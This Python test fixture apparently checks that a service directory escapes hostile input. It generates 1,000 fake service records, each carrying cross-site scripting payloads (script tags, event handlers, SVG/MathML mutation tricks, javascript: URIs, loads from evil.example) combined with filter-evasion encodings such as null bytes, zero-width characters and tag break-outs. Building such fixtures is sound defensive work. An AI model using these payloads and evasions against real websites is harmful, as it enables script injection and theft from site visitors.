"""A thousand services whose publisher means harm: ways to run or load something, wrapped, in every field."""
# ruff: noqa: E501 (a broken line would be another payload)

from __future__ import annotations

from html import escape
from typing import Any
from urllib.parse import quote

from tests.directory.builders import a_place, a_schedule, a_service, an_id

EVIL = "https://evil.example"
HOW_MANY = 1000
TRURO = (50.2632, -5.051)

# What would run (`ran(N)`) or load (`E/N`) if the page took it for markup. N is the number of the service.
FAMILIES = {
    "script": "<script>ran(N)</script>",
    "script from elsewhere": "<script src=E/N></script>",
    "img onerror": "<img src=x onerror=ran(N)>",
    "img": '<img src="E/N">',
    "img srcset": '<img srcset="E/N 1x">',
    "svg onload": "<svg onload=ran(N)></svg>",
    "svg script": "<svg><script>ran(N)</script></svg>",
    "svg image": '<svg><image href="E/N" width="9" height="9"/></svg>',
    "svg animate": '<svg><animate onbegin=ran(N) attributeName=x dur=1s></svg>',
    "svg link": '<svg><a xlink:href="javascript:ran(N)"><text y="9">press</text></a></svg>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.ran(N)</script>"></iframe>',
    "iframe javascript": '<iframe src="javascript:parent.ran(N)"></iframe>',
    "iframe": '<iframe src="E/N"></iframe>',
    "object": '<object data="E/N"></object>',
    "embed": '<embed src="E/N">',
    "style import": "<style>@import url(E/N);</style>",
    "style attribute": '<div style="background:url(E/N)">words</div>',
    "stylesheet": '<link rel=stylesheet href="E/N">',
    "preconnect": '<link rel=prefetch href="E/N">',
    "base": '<base href="E/N/"><img src="leak">',
    "video poster": '<video poster="E/N"></video>',
    "video source": "<video><source src=x onerror=ran(N)></video>",
    "audio": '<audio src="E/N" preload=auto></audio>',
    "details": "<details open ontoggle=ran(N)>words</details>",
    "focus": "<input autofocus onfocus=ran(N)>",
    "body": "<body onpageshow=ran(N)>words",
    "animation": "<b style='animation:breathe 1s' onanimationstart=ran(N)>words</b>",
    "template": "<template shadowrootmode=open><img src=x onerror=ran(N)></template>",
    "mathml": '<math><mi xlink:href="javascript:ran(N)">press</mi><annotation-xml encoding="text/html"><img src=x onerror=ran(N)></annotation-xml></math>',
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran(N)&gt;'>",
    "mutation noscript": '<noscript><p title="</noscript><img src=x onerror=ran(N)>"></noscript>',
    "link": '<a href="javascript:ran(N)">press</a>',
    "bare javascript": "javascript:ran(N)",
    "bare data": "data:text/html,<script>parent.ran(N)</script>",
    "form": '<form action="E/N"><button>press</button></form>',
    "attribute": '" autofocus onfocus=ran(N) x="',
    "template string": "${ran(N)} {{constructor.constructor('ran(N)')()}} '-ran(N)-'",
    "refresh": '<meta http-equiv=refresh content="0;url=E/N">',
}  # fmt: skip


def _wide(text: str) -> str:
    return "".join(chr(ord(char) + 0xFEE0) if char in "<>\"'=" else char for char in text)


WRAPPINGS = {
    "plain": lambda text: text,
    "entities": escape,
    "entities twice": lambda text: escape(escape(text)),
    "numbers": lambda text: "".join(f"&#x{ord(char):x}" if char in "<>" else char for char in text),
    "capitals": lambda text: text.replace("script", "ScRiPt").replace("on", "oN").replace("svg", "SvG"),
    "in words": lambda text: f"Free help <b>for you</b> {text} every day",
    "null": lambda text: text.replace("<", "<\u0000").replace("javascript", "java\u0000script"),
    "tab": lambda text: text.replace("javascript:", "java\tscript&colon;").replace(" on", "\x0con"),
    "zero width": lambda text: text.replace("<", "<\u200b"),
    "wide": _wide,
    "split": lambda text: text.replace("<s", "<s<script></script>").replace("<i", "<i<b></b>"),
    "comment": lambda text: f"<!--><!-- -->{text}<!-- -->",
    "cdata": lambda text: f"<![CDATA[{text}]]>",
    "break out": lambda text: f"</title></textarea></style></template>{text}",
    "unclosed": lambda text: f"<p title='{text}",
    "reversed": lambda text: f"\u202e{text}\u202c",
    "percent": lambda text: quote(text, safe="(): "),
    "markdown": lambda text: f"[press]({text}) ![]({text}) <{text}>",
    "json": lambda text: f'</script>{{"a": "{text}"}}\u2028',
    "old encoding": lambda text: text.replace("<", "\u00bc").replace(">", "\u00be") + text,
    "lines": lambda text: text.replace(" ", "\n").replace("<", "<\r\n"),
    "many": lambda text: f"{text} " * 3,
    "svg around": lambda text: f"<svg><desc>{text}</desc><foreignObject>{text}</foreignObject></svg>",
    "xml": lambda text: f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "{text}">]><x>&e;{text}</x>',
    "conditional": lambda text: f"<!--[if gte IE 4]>{text}<![endif]-->{text}",
    "slash": lambda text: text.replace(" ", "/"),
    "backtick": lambda text: text.replace('"', "`"),
}  # fmt: skip
# Where it stands besides the description.
FIELDS = (
    "name", "organisation", "url", "email", "phone", "phone words", "address", "place", "schedule", "eligibility",
    "apply", "fees", "alert", "wait", "documents", "languages", "area", "transport", "access", "term", "site",
)  # fmt: skip


def payload(family: str, wrapping: str, number: int) -> str:
    """Return one piece of hostile text that tells its number to whoever notices."""
    return str(
        WRAPPINGS[wrapping](FAMILIES[family].replace("E/N", f"{EVIL}/{number}").replace("N)", f"{number})"))
    )


def _service(number: int, text: str, field: str) -> dict[str, Any]:
    bad = dict.fromkeys(FIELDS, "") | {field: text}
    place = a_place(
        TRURO[0] + number / 100_000, TRURO[1],
        location={
            "name": bad["place"] or "The Centre", "transportation": bad["transport"],
            "accessibility": [{"id": an_id(f"access {number}"), "description": bad["access"] or "Ramp"}],
            "addresses": [{
                "id": an_id(f"address {number}"), "address_1": bad["address"] or "1 Lemon Street", "city": "Truro",
                "state_province": "Cornwall", "postal_code": "TR1 2LS", "country": "GB", "address_type": "physical",
            }],
        },
    )  # fmt: skip
    place["id"], place["location"]["id"] = an_id(f"link {number}"), an_id(f"place {number}")
    return a_service(
        f"Place {number} {bad['name']}",
        id=an_id(f"hostile {number}"),
        description=text,
        url=bad["url"] or "https://place.example/",
        email=bad["email"] or "hello@place.example",
        organization={
            "id": an_id(f"organisation {number}"), "name": f"Group {number} {bad['organisation']}",
            "description": text, "website": bad["site"] or "https://group.example/",
        },
        phones=[{
            "id": an_id(f"phone {number}"), "number": bad["phone"] or "0113 496 0000",
            "description": bad["phone words"],
        }],
        schedules=[a_schedule(id=an_id(f"schedule {number}"), description=bad["schedule"])],
        eligibility_description=bad["eligibility"], application_process=bad["apply"],
        fees_description=bad["fees"], alert=bad["alert"], wait_time=bad["wait"],
        required_documents=[{"id": an_id(f"document {number}"), "document": bad["documents"] or "Letter"}],
        languages=[{"id": an_id(f"language {number}"), "name": bad["languages"] or "Cornish"}],
        service_areas=[{"id": an_id(f"area {number}"), "name": bad["area"] or "Cornwall"}],
        attributes=[{
            "id": an_id(f"attribute {number}"), "link_entity": "service", "link_id": an_id(f"hostile {number}"),
            "taxonomy_term": {"id": an_id(f"term {number}"), "name": bad["term"] or "Help", "taxonomy": text},
        }],
        additional_urls=[{"id": an_id(f"url {number}"), "url": bad["url"] or "https://more.example/", "label": text}],
        service_at_locations=[place],
    )  # fmt: skip


def services() -> list[dict[str, Any]]:
    """Return the services: each with words of its own in its description and in one more field."""
    pairs = [(family, wrapping) for wrapping in WRAPPINGS for family in FAMILIES]
    return [
        _service(number, payload(family, wrapping, number), FIELDS[number % len(FIELDS)])
        for number, (family, wrapping) in enumerate(pairs[:HOW_MANY])
    ]
